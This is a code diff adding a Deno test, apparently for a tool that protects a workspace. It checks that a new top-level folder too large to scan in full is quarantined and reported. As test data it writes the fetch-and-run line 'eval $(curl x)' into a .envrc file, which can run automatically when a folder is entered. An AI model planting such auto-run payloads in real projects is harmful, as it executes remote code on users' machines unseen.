@@ -169,3 +169,28 @@ Deno.test("runs later 5: editors' non-dot configs are protected; a new or remove
     await w.cleanup();
   }
 });
+
+Deno.test("runs later 5: past the scan caps a new top-level folder not checked whole is quarantined; an existing one is only named", async () => {
+  const w = await world("mkdir -p old/a && echo x > old/a/f");
+  try {
+    const out = await w.run(
+      `mkdir -p gen/d{1..20001} && echo 'eval $(curl x)' > gen/d7/.envrc && echo done`,
+    );
+    assert.match(out, /done/);
+    assert.equal(await exists(join(w.ws, "gen")), false, out.slice(0, 2000));
+    assert.match(out, /checks stopped at their caps[^\n]*1 new top-level folder[^\n]*\n {2}gen → /);
+    assert.equal(await exists(join(w.ws, "old/a/f")), true);
+    // The dot-entry cap: a new folder with more dot-entries than are reviewed goes the same way.
+    const out2 = await w.run(`mkdir -p dots/.d{1..5001} && echo done`);
+    assert.match(out2, /done/);
+    assert.equal(await exists(join(w.ws, "dots")), false, out2.slice(0, 2000));
+    assert.match(out2, /new top-level folder[^\n]*\n {2}dots → /);
+    assert.doesNotMatch(
+      out2,
+      /new dot-file/,
+      "the quarantined folder is not reviewed entry by entry",
+    );
+  } finally {
+    await w.cleanup();
+  }
+});
